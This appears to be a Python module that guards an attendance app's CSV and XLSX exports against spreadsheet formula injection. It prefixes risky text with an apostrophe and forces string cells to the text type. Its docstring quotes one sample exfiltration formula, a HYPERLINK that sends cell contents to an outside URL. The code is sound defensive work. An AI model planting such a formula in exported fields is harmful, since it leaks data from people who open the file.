"""Cells of the files Hadir writes for spreadsheets: text from users stays text (formula injection).

A staff name like `=HYPERLINK("http://…?x="&A1,"Klik")` must not become a live formula in the recap a
head opens in Excel or LibreOffice. Every CSV and XLSX writer of the apps passes its cells through here:

- CSV (`inert`, `inert_row`): a text field starting with a character a spreadsheet reads as the start of
  a formula (= + - @, tab, carriage return) gets a leading apostrophe, as OWASP recommends. Only text is
  touched: numbers, dates and times Hadir writes as such stay as they are (a negative latitude too).
- XLSX (`text_cell`): a string cell whose type is set to text, never inferred (openpyxl reads a str
  starting with "=" as a formula and "#N/A" as an error). The value itself is kept as typed, less the
  control characters an XLSX file cannot hold (openpyxl refuses the whole file for one of them).
"""

from openpyxl.cell import WriteOnlyCell
from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE

FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r")


def inert(value):
    """A CSV field: text that would start a formula, with a leading apostrophe; anything else as is."""
    if isinstance(value, str) and value.startswith(FORMULA_TRIGGERS):
        return "'" + value
    return value


def inert_row(values) -> list:
    return [inert(value) for value in values]


def text_cell(ws, value: str) -> WriteOnlyCell:
    """A cell of a write-only sheet holding `value` as plain text."""
    cell = WriteOnlyCell(ws, value=ILLEGAL_CHARACTERS_RE.sub("", value))
    cell.data_type = "s"
    return cell
